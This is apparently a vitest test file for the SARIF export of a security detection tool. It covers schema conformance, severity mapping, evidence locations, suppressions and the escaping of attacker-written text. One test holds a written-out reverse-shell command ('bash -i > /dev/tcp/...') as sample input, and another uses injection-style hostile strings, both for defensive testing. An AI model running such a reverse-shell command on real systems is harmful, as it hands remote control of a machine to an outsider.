import { describe, expect, it } from 'vitest';
import type { CheckReport } from '../../src/export/check-report.js';
import { sarifLog } from '../../src/export/sarif.js';
import { sourceUri } from '../../src/export/sarif-location.js';
import { sarifText } from '../../src/export/sarif-rule.js';
import { printable } from '../../src/model/printable.js';
import { checkReport, HOSTILE, placed, ruleEntry } from './check-sample.js';
import { incident } from './samples.js';
import { sarifErrors } from './sarif-schema.js';

const EVIDENCE = [
  { source: 'logs/events 1.jsonl', line: 4, timeUs: 1_000_000, summary: 'connect' },
  { source: 'logs/events 1.jsonl', line: 9, timeUs: 2_000_000, summary: 'exec' },
];

describe('sarifLog', () => {
  it.each([
    ['an empty report', { findings: [], catalogue: [], missing: [] }],
    ['a report', {}],
    ['known and suppressed findings', { findings: [placed({ status: 'known' }), placed({ id: 'f2', status: 'suppressed' })] }],
    ['an incident', { incidents: [incident()] }],
    ['a finding of a rule that no catalogue holds', { catalogue: [] }],
    ['hostile text', { findings: [placed({ title: HOSTILE, why: HOSTILE })], incidents: [incident({ title: HOSTILE })] }],
  ] as const)('fits the published schema: %s', (_, fields) => {
    expect(sarifErrors(logOf(fields))).toEqual([]);
  });

  it('tells the steps of an incident with the first of its findings, and names it with each', () => {
    const findings = [placed(), placed({ id: 'f2' }), placed({ id: 'f3' })];
    const told = incident({ findings: ['f1', 'f2'] });
    const [first, second, third] = resultsOf({ findings, incidents: [told] });
    expect(first.codeFlows).toHaveLength(2);
    expect(first.codeFlows[1].message.text).toBe(sarifText(told.title));
    expect(first.codeFlows[1].threadFlows[0].locations).toHaveLength(told.steps.length);
    expect(second.codeFlows).toHaveLength(1);
    expect([first, second, third].map((one) => one.properties.incident)).toEqual([told.id, told.id, undefined]);
  });

  it('is one run of version 2.1.0 whose results point at described rules', () => {
    const log = logOf();
    expect(log).toMatchObject({ version: '2.1.0', runs: [{ tool: { driver: { name: 'workbench', version: '1.2.3' } } }] });
    expect(log.$schema).toMatch(/^https:.*sarif-schema-2\.1\.0\.json$/);
    expect(Object.keys(log.runs[0]).toSorted()).toEqual(['columnKind', 'invocations', 'results', 'tool']);
    const [result] = resultsOf();
    expect(rulesOf()[result.ruleIndex].id).toBe(result.ruleId);
  });

  it('describes every rule as GitHub asks', () => {
    for (const rule of rulesOf()) {
      expect(rule.shortDescription.text.length).toBeLessThanOrEqual(1024);
      for (const text of [rule.shortDescription.text, rule.fullDescription.text, rule.help.text, rule.help.markdown])
        expect(text).not.toBe('');
      expect(rule.properties).toMatchObject({ precision: 'high', 'security-severity': '8.0' });
      expect(rule.properties.tags).toContain('security');
      expect(rule.defaultConfiguration.level).toBe('error');
    }
  });

  it.each([
    ['critical', 'error', '9.5', 'very-high'],
    ['high', 'error', '8.0', 'high'],
    ['medium', 'warning', '5.5', 'medium'],
    ['low', 'note', '3.0', 'low'],
    ['informational', 'note', '0.0', 'low'],
  ] as const)('a rule and a finding of level %s are an %s of severity %s', (level, shown, severity, precision) => {
    const report = { catalogue: [ruleEntry({ level })], findings: [placed({ level })] };
    expect(resultsOf(report)[0].level).toBe(shown);
    expect(rulesOf(report)[0].properties).toMatchObject({ 'security-severity': severity, precision });
  });

  it('shows at most ten tags', () => {
    const attack = Array.from({ length: 30 }, (_, at) => `T${1000 + at}`);
    expect(rulesOf({ catalogue: [ruleEntry({ attack })] })[0].properties.tags).toHaveLength(10);
  });

  it('places a result at its first line of evidence, with both ends of the region', () => {
    const [result] = resultsOf({ findings: [placed({ evidence: EVIDENCE })] });
    expect(result.locations).toMatchObject([
      {
        physicalLocation: {
          artifactLocation: { uri: 'logs/events%201.jsonl' },
          region: { startLine: 4, startColumn: 1, endLine: 4, endColumn: 2 },
        },
        logicalLocations: [{ name: 'crawler', fullyQualifiedName: 'node-1/tenant-jobs/crawler-7c5d/crawler' }],
      },
    ]);
    expect(result.partialFingerprints.primaryLocationLineHash).toBe('f1');
  });

  it('tells the evidence as a code flow in its order', () => {
    const [result] = resultsOf({ findings: [placed({ evidence: EVIDENCE })] });
    const steps = result.codeFlows[0].threadFlows[0].locations;
    expect(steps.map(lineOf)).toEqual([4, 9]);
    expect(steps[1]).toMatchObject({ location: { message: { text: 'exec' } }, executionTimeUtc: '1970-01-01T00:00:02Z' });
  });

  it('describes a rule that no catalogue holds', () => {
    const report = { catalogue: [] };
    expect(rulesOf(report).map((rule: { id: string }) => rule.id)).toEqual(['reverse-shell']);
    expect(resultsOf(report)[0].ruleIndex).toBe(0);
  });

  it('says of every result whether it is suppressed, or of none', () => {
    const suppression = { reason: 'the backup [nightly]', expires: 'never', by: 'suppress.yml:1' };
    const findings = [placed(), placed({ id: 'f2', status: 'suppressed', suppression })];
    expect(resultsOf({ findings }).map((result: { suppressions: unknown }) => result.suppressions)).toEqual([
      [],
      [{ kind: 'external', status: 'accepted', justification: 'the backup \\[nightly\\]' }],
    ]);
    expect(resultsOf()[0]).not.toHaveProperty('suppressions');
  });

  it('says of every result whether the baseline knew it, or of none', () => {
    const findings = [placed(), placed({ id: 'f2', status: 'known' })];
    expect(resultsOf({ findings }).map((result: { baselineState: unknown }) => result.baselineState)).toEqual(['new', 'unchanged']);
    expect(resultsOf()[0]).not.toHaveProperty('baselineState');
  });

  it('says what could not be seen', () => {
    const [invocation] = logOf().runs[0].invocations;
    expect(invocation).toMatchObject({
      executionSuccessful: true,
      toolExecutionNotifications: [
        { level: 'note', message: { text: 'no DNS events: names come from arguments only' } },
        { associatedRule: { id: 'exfiltration' } },
      ],
    });
  });

  it('is a run without results when there are no findings', () => {
    expect(resultsOf({ findings: [] })).toEqual([]);
  });

  it('leaves out the least severe of more results than GitHub takes, and says so', () => {
    const log = logOf({ findings: Array.from({ length: 25_001 }, () => placed({ evidence: [] })) });
    expect(log.runs[0].results).toHaveLength(25_000);
    expect(JSON.stringify(log.runs[0].invocations)).toContain('1 findings of the lowest levels are left out');
  });

  it('makes no link, placeholder or control sequence of what an attacker wrote', () => {
    const text = sarifLog(checkReport({ findings: [placed({ title: HOSTILE })] }));
    expect(text.split('\n').every((line) => printable(line) === line)).toBe(true);
    const message = resultsOf({ findings: [placed({ title: HOSTILE })] })[0].message.text;
    expect(message).toContain('\\[click\\](http');
    expect(message).toContain('{{0}}');
    expect(message).toContain('\\\\x1b\\[2J\\\\u{{202e}}\\\\n# head');
  });

  it('is the same bytes every time', () => {
    expect(sarifLog(checkReport())).toBe(sarifLog(checkReport()));
  });
});

describe('sarifText', () => {
  it('keeps plain text as it is', () => {
    expect(sarifText('bash -i > /dev/tcp/203.0.113.9/4444')).toBe('bash -i > /dev/tcp/203.0.113.9/4444');
  });
});

describe('sourceUri', () => {
  it.each([
    ['events.jsonl', 'events.jsonl'],
    ['./logs//events.jsonl', 'logs/events.jsonl'],
    ['/ci/build/logs/events.jsonl', 'logs/events.jsonl'],
    ['/ci/building/events.jsonl', 'file:///ci/building/events.jsonl'],
    ['../events.jsonl', '../events.jsonl'],
    ['a b#c?.jsonl', 'a%20b%23c%3F.jsonl'],
    ['http:evil', 'http%3Aevil'],
    ['bad\ud800name', 'bad%EF%BF%BDname'],
    ['-', 'standard-input'],
    ['', 'standard-input'],
    ['.', 'standard-input'],
  ])('of %j is %s', (path, uri) => {
    expect(sourceUri(path, '/ci/build')).toBe(uri);
  });
});

function logOf(fields: Partial<CheckReport> = {}) {
  return JSON.parse(sarifLog(checkReport(fields)));
}

function resultsOf(fields: Partial<CheckReport> = {}) {
  return logOf(fields).runs[0].results;
}

function rulesOf(fields: Partial<CheckReport> = {}) {
  return logOf(fields).runs[0].tool.driver.rules;
}

function lineOf(step: { location: { physicalLocation: { region: { startLine: number } } } }): number {
  return step.location.physicalLocation.region.startLine;
}
